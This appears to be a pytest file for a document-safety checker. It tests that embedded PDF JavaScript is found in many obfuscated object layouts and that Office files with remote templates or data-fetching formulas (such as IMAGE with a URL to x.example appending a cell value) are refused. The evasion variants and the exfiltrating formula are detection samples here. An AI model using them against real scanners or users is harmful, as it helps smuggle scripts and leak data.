"""What a hostile file hides from one reader and shows to another: the checks look as the most forgiving reader does."""

import zlib

import pytest

from core.files import office
from core.files.kinds import Kind, Refused
from core.files.pdf_names import names_in
from tests.files import docx_parts, relations, xlsx_parts, zipped

SCRIPT = b"/S /JavaScript /JS (app.alert(1))"
PACKED = zlib.compress(b"97 0 << " + SCRIPT + b" >>")
INTERRUPTED = zlib.compress(b"96 0 97 10 << /A 1 >> endobj << " + SCRIPT + b" >>")
STREAM = b"99 0 obj << /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\n"


@pytest.mark.parametrize(
    "written",
    [
        b"99 0 obj << %s >> endobj" % SCRIPT,
        b"99 0 %% a remark\nobj << %s >> endobj" % SCRIPT,
        b"000000000000099 0 obj << %s >> endobj" % SCRIPT,
        b"99 0 obj << /T (1 0 obj %%) %s >> endobj" % SCRIPT,
        b"99 0 obj << /T <(> %s >> endobj" % SCRIPT,
        b"99 0 obj << /T endobj %s >> endobj" % SCRIPT,
        b"99 0 obj << /T stream\n %s >> endobj" % SCRIPT,
        b"99 0 obj << /T << /U 1 >> stream\n %s >> endobj" % SCRIPT,
        STREAM + b"stream\r\n%s\nendstream endobj" % PACKED,
        STREAM + b"stream\r%s\nendstream endobj" % PACKED,
        STREAM + b"stream \n%s\nendstream endobj" % PACKED,
        STREAM + b"stream\n%s\nendstream endobj" % INTERRUPTED,
        b"trailer << /X (%s) /Root << %s >> >>" % (b"x" * 5000, SCRIPT),
    ],
    ids=[
        "plainly", "behind a remark", "under a long number", "behind what looks like an object in a text",
        "behind a bracket in a number", "behind an end inside", "behind a stream inside",
        "behind a stream further inside", "in a stream", "in a stream after a carriage return",
        "in a stream after a space", "in a stream behind an end", "in a long trailer",
    ],
)  # fmt: skip
def test_a_script_is_seen_however_its_object_is_written(written):
    assert ("/S", "/JavaScript") in list(names_in(b"%PDF-1.7\n" + written + b"\nstartxref\n9\n%%EOF\n"))


def test_what_only_looks_like_a_script_is_none():
    text = b"5 0 obj << /Title (A talk on /JS and \\( 1 0 obj) >> endobj"
    drawn = b"6 0 obj << /Length 9 >> stream\n/JS (x) Tj\nendstream endobj"

    assert [name for _, name in names_in(text + b"\n" + drawn)] == ["/Title", "/Length"]


def test_relations_are_looked_at_in_whatever_case_their_part_is_named():
    leading = {"word/_rels/document.xml.RELS": relations(("attachedTemplate", "http://x.example/t.dotm", True))}

    with pytest.raises(Refused) as refusal:
        office.check(zipped(docx_parts() | leading))
    assert refusal.value.code == "office-elsewhere"


@pytest.mark.parametrize("formula", ["_xlfn.WEBSERVICE(A1)", '_xlfn.IMAGE("https://x.example/?"&amp;A1)', "image (A1)"])
def test_a_formula_that_fetches_is_refused(formula):
    with pytest.raises(Refused) as refusal:
        office.check(zipped(xlsx_parts(cells=f"<row><c><f>{formula}</f></c></row>")))
    assert refusal.value.code == "office-fields"


def test_a_formula_that_only_calculates_is_kept():
    calculating = "<row><c><f>SUM(A1:A2)+IMAGINARY(B1)</f></c></row>"

    assert office.check(zipped(xlsx_parts(cells=calculating))) == {"kind": Kind.XLSX}
